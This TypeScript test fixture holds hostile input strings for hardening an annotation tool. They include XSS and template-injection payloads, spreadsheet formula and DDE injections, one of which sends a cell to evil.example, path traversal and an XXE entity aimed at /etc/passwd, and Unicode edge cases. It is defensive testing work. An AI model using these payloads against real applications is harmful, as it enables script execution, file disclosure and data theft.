/**
 * Hostile strings for the hardening tests: markup and script, template and
 * markdown tricks, bidi and zero-width characters, controls, lone
 * surrogates, very long text, spreadsheet formulas, path traversal, astral
 * characters and strings that break JSON or XML.
 *
 * Every payload that could run carries its own marker, written so that the
 * payload's TEXT never contains it: `console.error('PWN'+'ED-7')` prints
 * `PWNED-7` only when executed, and `alert(7)` opens a dialog only when
 * executed. Elements a payload would create carry `data-pwned`, so a test
 * can look for them in the DOM. Showing a payload as text is therefore never
 * mistaken for running it.
 *
 * Lone surrogates: a JS string (the core's API in process, the session's
 * JSON files, the json, jsonl and w3c exports, the HTTP API whose JSON
 * escapes them as \uD800) carries them as they are. UTF-8 cannot: a file
 * to import, and every export written as UTF-8 bytes (csv, brat, the qdpx
 * sources), holds U+FFFD in their place, one for one. XML 1.0 cannot either:
 * xlsx and project.qde hold U+FFFD (as for C0 controls other than tab, LF
 * and CR, and U+FFFE/U+FFFF).
 */

export interface HostilePayload {
  id: number;
  /** What the payload tries, for test names. */
  kind: string;
  value: string;
}

/** The text a payload prints or shows only if it runs. */
export function pwnedMarker(id: number): string {
  return `PWNED-${id}`;
}

/** Any executed marker, for console checks. */
export const PWNED = /PWNED-\d+/;

const run = (id: number): string => `console.error('PWN'+'ED-${id}')`;

const raw: Array<[kind: string, make: (id: number) => string]> = [
  ['img onerror', (n) => `<img src=x data-pwned=${n} onerror="${run(n)};alert(${n})">`],
  ['script element', (n) => `<script data-pwned=${n}>${run(n)};alert(${n})</script>`],
  ['svg onload', (n) => `<svg data-pwned=${n} onload="${run(n)}"><circle r=9 /></svg>`],
  ['javascript: link', (n) => `<a data-pwned=${n} href="javascript:${run(n)}">点我</a>`],
  ['iframe srcdoc after attribute break', (n) => `"><iframe data-pwned=${n} srcdoc="<script>parent.${run(n)}</script>"></iframe>`],
  ['single-quote break into body onload', (n) => `'><body data-pwned=${n} onload=alert(${n})>`],
  ['details ontoggle', (n) => `<details data-pwned=${n} open ontoggle="${run(n)}"><summary>x</summary></details>`],
  ['mXSS through math/style', (n) => `<math><mtext><table><mglyph><style><img data-pwned=${n} src=x onerror="${run(n)}">`],
  ['input autofocus onfocus', (n) => `<input data-pwned=${n} autofocus onfocus="${run(n)}">`],
  ['object javascript data', (n) => `<object data-pwned=${n} data="javascript:alert(${n})"></object>`],
  ['bare javascript: URL', (n) => `javascript:${run(n)}//`],
  ['data: URL with script', (n) => `data:text/html,<script>alert(${n})</script>`],
  ['closing script then script', (n) => `</script><script data-pwned=${n}>alert(${n})</script>`],
  ['comment escape', (n) => `<!-- --><img data-pwned=${n} src=x onerror=alert(${n})> -->`],
  ['style expression', (n) => `<div data-pwned=${n} style="background:url(javascript:alert(${n}))">x</div>`],
  ['template literal', (n) => `\${alert(${n})}`],
  ['angular/handlebars template', (n) => `{{constructor.constructor('alert(${n})')()}} {{7*7}}`],
  ['erb/jsp template', (n) => `<%= alert(${n}) %> #{alert(${n})} @{x}`],
  ['markdown javascript link', (n) => `[点击](javascript:alert(${n})) **粗** _斜_`],
  ['markdown image onerror', (n) => `![x](x" onerror="alert(${n}))`],
  ['i18next interpolation', (n) => `{{- value}} $t(key) {{x, format}} ${n}`],
  ['prototype pollution JSON', (n) => `{"__proto__":{"polluted":${n}},"constructor":{"prototype":{"x":1}}}`],
  ['right-to-left override', (n) => `invoice\u202Etxt.exe ${n}`],
  ['bidi isolates', (n) => `a\u2066LRI\u2069 b\u2067RLI\u2069 c\u2068FSI\u2069 ${n}`],
  ['unterminated embeddings', (n) => `\u202A\u202B\u202D\u202E未闭合 ${n}`],
  ['directional marks', (n) => `\u200E\u200F\u061C标记 ${n}`],
  ['NUL inside', (n) => `前\u0000后 ${n}`],
  ['C0 controls and ANSI escape', (n) => `\u0001\u0002\u0007\u0008\u000B\u000C\u001B[31mred\u001B[0m ${n}`],
  ['C1 controls and DEL', (n) => `\u0080\u0085\u009B\u009F\u007F ${n}`],
  ['every kind of line break', (n) => `a\r\nb\nc\rd\u2028e\u2029f ${n}`],
  ['tabs and odd spaces', (n) => `a\tb\u00A0c\u3000d\u2003e ${n}`],
  ['zero-width characters', (n) => `零\u200B宽\u200C字\u200D符\u2060 ${n}`],
  ['byte order mark inside', (n) => `\uFEFFBOM\uFEFF ${n}`],
  ['lone high surrogate', (n) => `高\uD800代理 ${n}`],
  ['lone low surrogate', (n) => `低\uDC00代理 ${n}`],
  ['reversed surrogate pair', (n) => `反\uDE00\uD83D序 ${n}`],
  ['noncharacters', (n) => `\uFFFE\uFFFF\uFDD0 ${n}`],
  ['combining marks pile', (n) => `Z${'\u0351\u0352\u0353\u0354\u0355'.repeat(40)} ${n}`],
  ['very long line', (n) => `${'长'.repeat(20_000)}${n}`],
  ['long note-sized text', (n) => `${'x'.repeat(99_000)}${n}`],
  ['excel HYPERLINK', (n) => `=HYPERLINK("http://evil.example/?leak="&A1,"点击${n}")`],
  ['DDE command', (n) => `+cmd|' /C calc'!A${n}`],
  ['minus formula', (n) => `-1+1+${n}`],
  ['at-sign formula', (n) => `@SUM(1,${n})`],
  ['tab then formula', (n) => `\t=1+${n}`],
  ['CR then formula', (n) => `\r=1+${n}`],
  ['equals with DDE', (n) => `=cmd|'/C powershell -c alert'!A${n}`],
  ['unix path traversal', (n) => `../../etc/passwd${n}`],
  ['windows path traversal', (n) => `..\\..\\win${n}.ini`],
  ['windows device name', () => `CON`],
  ['device name with extension', () => `aux.txt`],
  ['forbidden file name characters', (n) => `a/b:c*?${n}.txt`],
  ['absolute path', (n) => `/etc/shadow${n}`],
  ['dot-dot obfuscated', (n) => `....//....//x${n}`],
  ['emoji sequences', (n) => `👨‍👩‍👧‍👦🇨🇳😀👍🏽 ${n}`],
  ['astral CJK', (n) => `𠮷野家 𪚥 𰻞𰻞面 ${n}`],
  ['JSON break', (n) => `"}\n{"evil":${n}}`],
  ['backslash escapes', (n) => `\\"\\u0000\\n\\\\ ${n}`],
  ['CDATA end', (n) => `]]> ]]]]><![CDATA[> ${n}`],
  ['entities', (n) => `&amp; &lt;b&gt; &#0; &#x1; &nbsp; ${n}`],
  ['XML declaration and XXE', (n) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;${n}`],
  ['brat line injection', (n) => `T1\tEVIL 0 1\tx\n#1\tAnnotatorNotes T1\tinjected ${n}`],
  ['csv quote and delimiter', (n) => `a","b",c\r\n"d ${n}`],
  ['only spaces', () => `   `],
];

/** Every hostile payload, numbered from 1; ids are stable and unique. */
export const HOSTILE_PAYLOADS: readonly HostilePayload[] = raw.map(([kind, make], i) => ({ id: i + 1, kind, value: make(i + 1) }));
